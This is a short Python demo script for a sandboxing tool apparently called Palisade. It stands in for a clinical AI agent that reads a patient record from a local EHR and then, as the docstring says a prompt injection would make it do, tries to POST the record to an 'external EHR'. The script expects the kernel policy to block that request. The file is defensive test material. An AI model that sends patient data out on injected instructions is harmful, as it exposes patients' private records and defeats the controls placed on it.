"""A stand-in for a clinical AI agent: it reads a record from the internal
EHR, then (as a prompt injection would make it do) tries to send the record
to an external EHR. Run it under Palisade:

    palisade exec --identity clinical-agent -- python3 examples/demo/agent.py
"""
import errno
import http.client


def request(label, host, method, body=None):
    conn = http.client.HTTPConnection(host, 18443, timeout=3)
    try:
        conn.request(method, "/records", body=body)
        resp = conn.getresponse()
        print(f"  {label}: {resp.status} {resp.read().decode()}")
        return True
    except OSError as e:
        name = errno.errorcode.get(e.errno, str(e.errno))
        print(f"  {label}: BLOCKED by the kernel ({name}: {e.strerror})")
        return False
    finally:
        conn.close()


print("agent: reading a patient record from the internal EHR (127.0.0.1)")
record = request("internal EHR", "127.0.0.1", "GET")
print("agent: sending the record to an external EHR (127.0.0.2)")
leaked = request("external EHR", "127.0.0.2", "POST", body=b"patient=...")
if record and not leaked:
    print("agent: allowed where the policy says, stopped everywhere else.")
else:
    raise SystemExit("unexpected result: the policy was not enforced as written")
